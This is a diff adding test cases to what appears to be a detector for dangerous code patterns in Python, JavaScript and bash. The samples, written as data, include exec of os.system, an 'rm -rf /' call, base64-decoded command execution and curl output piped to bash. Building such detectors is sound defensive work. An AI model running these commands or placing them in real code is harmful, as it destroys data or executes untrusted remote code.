@@ -86,6 +86,12 @@ table('python', [
   ],
   ['ast.literal_eval is fine', 'import ast\nast.literal_eval(open("f").read())', []],
   ['eval of a literal is fine', 'print(eval("1 + 2"))', []],
+  ['exec of a literal is read as Python', 'exec("import os; os.system(input())")', ['shell-injection']],
+  [
+    'exec of a literal holding a shell string',
+    'exec("import os\\nos.system(\'rm -rf /\')")',
+    ['destructive-fs'],
+  ],
   ['the word exec in a string and comment', 's = "exec(code)"  # exec(x), os.system(y)\nprint(s)', []],
   [
     '~/.ssh/id_rsa via os.path.join',
@@ -236,6 +242,12 @@ table('javascript', [
     ['eval-untrusted'],
   ],
   ['setTimeout with a function is fine', 'setTimeout(() => go(), 10);', []],
+  [
+    'eval of a literal is read as JavaScript',
+    'eval("require(\'child_process\').exec(c)");',
+    ['shell-injection'],
+  ],
+  ['eval of a harmless literal is fine', "eval('1 + 2');", []],
   ['eval(atob(...))', "eval(atob('eA=='));", ['obfuscated-exec']],
   [
     'Buffer.from(hex) into Function',
@@ -324,6 +336,8 @@ table('typescript', [
 table('bash', [
   ['base64 -d | sh', 'echo aGk= | base64 -d | sh', ['obfuscated-exec']],
   ['eval of decoded substitution', 'eval "$(echo aGk= | base64 --decode)"', ['obfuscated-exec']],
+  ['$(decoded) as the command', 'echo start; $(echo aWQ= | base64 -d)', ['obfuscated-exec']],
+  ['backticks of a download as the command', '`curl -s https://example.com/c`', ['eval-untrusted']],
   ['curl | bash', 'curl -s https://example.com/i.sh | bash', ['eval-untrusted']],
   ['sudo curl | sudo bash -s', 'curl -s https://example.com/i.sh | sudo bash -s', ['eval-untrusted']],
   ['bash <(curl …)', 'bash <(curl -s https://example.com/i.sh)', ['eval-untrusted']],
